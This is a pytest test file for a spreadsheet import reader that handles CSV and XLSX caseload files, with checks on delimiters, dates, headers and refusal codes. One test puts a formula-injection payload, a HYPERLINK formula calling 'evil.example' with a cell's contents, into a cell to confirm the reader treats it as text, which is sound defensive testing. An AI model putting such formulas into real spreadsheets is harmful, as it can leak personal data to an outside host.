"""An imported file is read whole or refused with a code (infra.spreadsheet_reading): XLSX
and CSV alike, a formula read as its text, never evaluated."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from client.imports import read_caseload
from domain.imports.rows import ImportFileError
from infra.spreadsheet_reading import read_rows
from tests.imports.rows import COLUMNS, cells, csv_of, xlsx_of
from web.reports.import_files import template_csv, template_xlsx


def read(data: bytes, max_rows: int = 10) -> list[dict[str, str]]:
    return [r.cells for r in read_rows(data, COLUMNS, max_rows=max_rows, max_bytes=100_000)]


def refusal(data: bytes, max_rows: int = 10, max_bytes: int = 100_000) -> str:
    with pytest.raises(ImportFileError) as refused:
        read_rows(data, COLUMNS, max_rows=max_rows, max_bytes=max_bytes)
    return refused.value.code


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_with_a_bom_and_any_delimiter_is_read_by_column(delimiter: str) -> None:
    assert read(csv_of([cells(1), cells(2)], delimiter)) == [
        cells(1) | {"phone": "", "reception_name": ""},
        cells(2) | {"phone": "", "reception_name": ""},
    ]


def test_an_xlsx_keeps_the_spreadsheets_row_numbers_and_skips_blank_rows_and_the_key_row() -> None:
    book = load_workbook(io.BytesIO(template_xlsx()))
    sheet = book["Percorsi"]
    sheet.append([cells(1).get(k, "") for k, _ in COLUMNS])
    sheet.append([])
    sheet.append([cells(2).get(k, "") for k, _ in COLUMNS])
    out = io.BytesIO()
    book.save(out)
    rows = read_rows(out.getvalue(), COLUMNS, max_rows=10, max_bytes=100_000)
    assert [(r.number, r.cell("document_number")) for r in rows] == [
        (3, "AB000001"),
        (5, "AB000002"),
    ]


def test_a_formula_cell_is_read_as_its_text_never_evaluated() -> None:
    book = load_workbook(io.BytesIO(xlsx_of([cells(1)])))
    book.active["B2"] = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    book.active["G2"] = "=1+1"
    out = io.BytesIO()
    book.save(out)
    (row,) = read(out.getvalue())
    assert row["family_name"] == '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert row["document_number"] == "=1+1"


def test_a_date_cell_is_read_as_its_day() -> None:
    from datetime import datetime

    book = load_workbook(io.BytesIO(xlsx_of([cells(1)])))
    book.active["C2"] = datetime(1990, 3, 12)
    out = io.BytesIO()
    book.save(out)
    assert read(out.getvalue())[0]["birth_date"] == "1990-03-12"


def test_the_templates_are_read_back_as_empty_files_with_the_right_headers() -> None:
    assert refusal(template_xlsx()) == "empty_file"
    assert refusal(template_csv().encode()) == "empty_file"


def test_bad_files_are_refused_with_their_codes() -> None:
    assert refusal(b"%PDF-1.7\x00\x01binary") == "not_a_spreadsheet"
    assert refusal(b"PK\x03\x04 not really a zip") == "not_a_spreadsheet"
    assert refusal(b"nome;cognome\nAda;Obi\n") == "wrong_headers"
    assert refusal(csv_of([cells(n) for n in range(11)])) == "too_many_rows"
    assert refusal(csv_of([cells(1)]), max_bytes=100) == "file_too_large"
    assert refusal(b"") == "empty_file"


def test_wrong_headers_name_every_missing_and_unknown_column() -> None:
    with pytest.raises(ImportFileError) as refused:
        read_rows(b"Nome,Cognome,Colore\nAda,Obi,blu\n", COLUMNS, max_rows=10, max_bytes=10_000)
    assert "Data di nascita" in refused.value.message
    assert "unknown: Colore" in refused.value.message


def test_the_import_keys_its_rows_by_the_files_digest() -> None:
    data = csv_of([cells(1)])
    one = read_caseload(data, "a.csv", "org-lecce", max_rows=5, max_bytes=10_000)
    again = read_caseload(data, "b.csv", "org-lecce", max_rows=5, max_bytes=10_000)
    assert one.digest == again.digest and len(one.rows) == 1
    with pytest.raises(ImportFileError) as refused:
        read_caseload(data, "a.csv", "not an id", max_rows=5, max_bytes=10_000)
    assert refused.value.code == "invalid_command"
